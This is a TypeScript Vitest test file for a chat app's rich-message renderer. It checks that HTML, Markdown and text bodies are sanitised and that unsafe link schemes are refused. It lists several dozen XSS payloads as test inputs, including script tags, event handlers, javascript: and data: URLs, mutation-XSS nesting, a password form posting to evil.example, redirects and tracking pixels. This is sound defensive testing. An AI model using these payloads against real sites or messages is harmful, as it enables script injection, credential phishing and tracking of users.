// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { richBody } from './body.ts';
import { safeHref } from './links.ts';
import { textOf, type RichNode } from './nodes.ts';
import { bodyMessage } from './testing/body-message.ts';

const everything = (nodes: readonly RichNode[]): readonly RichNode[] =>
  nodes.flatMap((node) => ('children' in node ? [node, ...everything(node.children)] : [node]));

const attacks = [
  '<script>alert(1)</script>after',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<style>* { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<div id="root" class="fui-Button" onclick="alert(1)">x</div>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<video src="https://evil.example/x.mp4" autoplay></video><audio src=x onerror=alert(1)></audio>',
  '<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/2.gif 2x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<customemoji source="https://tracker.example/e.png" alt="x" onerror="alert(1)"></customemoji>',
  '<at onmouseover="alert(1)" id="0">Ada</at>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="https://x.example/"><a href="javascript:alert(1)">y</a></a>',
  '<table><tr><td><script>alert(1)</script>cell</td></tr></table>',
  '<codeblock class="x onload=alert(1)"><code><script>alert(1)</script></code></codeblock>',
  '[x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '```html"><script>alert(1)</script>\n<script>\n```',
  ':x"><script>alert(1)</script>:',
];

describe.each(['html', 'markdown', 'text'] as const)('hostile %s', (format) => {
  it.each(attacks)('%s', (attack) => {
    const all = everything(richBody(bodyMessage(format, attack), null).nodes);
    for (const node of all) {
      // Only addresses that may be offered, and no picture that would be loaded from elsewhere.
      if (node.kind === 'link') expect(safeHref(node.href)).toBe(node.href);
      if (node.kind === 'remote-picture' && node.href !== null) expect(safeHref(node.href)).toBe(node.href);
      expect(node.kind).not.toBe('picture');
      // A known kind with exactly its own properties: nothing of the source's markup travels along.
      const keys = Object.keys(node).sort().join();
      expect([
        'kind,text',
        'children,kind,tag',
        'children,kind,start',
        'children,href,kind',
        'kind,of,text',
        'kind,name,text',
        'kind,language,text',
        'href,kind,label',
      ]).toContain(keys);
    }
  });
});

describe('what the parser does while it reads hostile markup', () => {
  it('runs nothing and loads nothing', () => {
    const touched: string[] = [];
    Object.assign(globalThis, { alert: () => touched.push('script ran') });
    for (const attack of attacks) richBody(bodyMessage('html', attack), null);
    expect(touched).toEqual([]);
    expect(document.querySelectorAll('script, img, iframe, style')).toHaveLength(0);
  });

  it('nested elements end at a depth that is drawn with ease (Chromium’s own parser ends at 512)', () => {
    const { nodes } = richBody(bodyMessage('html', '<div>'.repeat(480) + 'deep'), null);
    let depth = 0;
    for (let level: readonly RichNode[] = nodes; level.length > 0; depth += 1) {
      const first = level[0];
      level = first && 'children' in first ? first.children : [];
    }
    expect(depth).toBeLessThan(60);
  });

  it('a body that brings the parser down is shown as plain text', () => {
    // jsdom clones recursively and runs out of stack here, which no real parser of the app does.
    const { nodes } = richBody(bodyMessage('html', '<div>'.repeat(5_000) + 'deep', { plain: 'deep' }), null);
    expect(nodes).toEqual([{ kind: 'text', text: 'deep' }]);
  });

  it('2 MB of HTML is cut to the first part, and more of it comes in steps', () => {
    const message = bodyMessage('html', `<p>${'word <b>bold</b> '.repeat(120_000)}</p>`);
    const first = richBody(message, null);
    expect(first.left).toBeGreaterThan(1_900_000);
    expect(richBody(message, null, 100_000).left).toBe(message.body.content.length - 100_000);
  });

  it('markup cut in the middle of a tag still reads', () => {
    expect(richBody(bodyMessage('html', '<p>hello <a href="https://x.exam'), null).nodes).toEqual([
      { kind: 'element', tag: 'p', children: [{ kind: 'text', text: 'hello ' }] },
    ]);
  });
});

describe('addresses', () => {
  it.each([
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,x',
    'file:///x',
    'msteams:/x',
    '//x.example',
    '/relative',
    'x',
    '',
    null,
    undefined,
    'https://',
  ])('%s is not offered', (href) => {
    expect(safeHref(href)).toBeNull();
  });
  it('web and mail addresses are', () => {
    expect(safeHref('https://x.example/a?b#c')).toBe('https://x.example/a?b#c');
    expect(safeHref('mailto:a@b.example')).toBe('mailto:a@b.example');
  });
});

// Each of these hands is also two emoji, a hand and a tone: an expression that repeats emoji reads them in 2^n ways.
it.each(['html', 'markdown', 'text'] as const)('emoji of several emoji freeze nothing: %s', (format) => {
  const hands = '👏🏻'.repeat(400);
  const before = process.cpuUsage();
  const { nodes, jumbo } = richBody(bodyMessage(format, `${hands}!`), null);
  expect(process.cpuUsage(before).user / 1_000).toBeLessThan(500);
  expect(textOf(nodes).trim()).toBe(`${hands}!`);
  expect(jumbo).toBe(false);
});
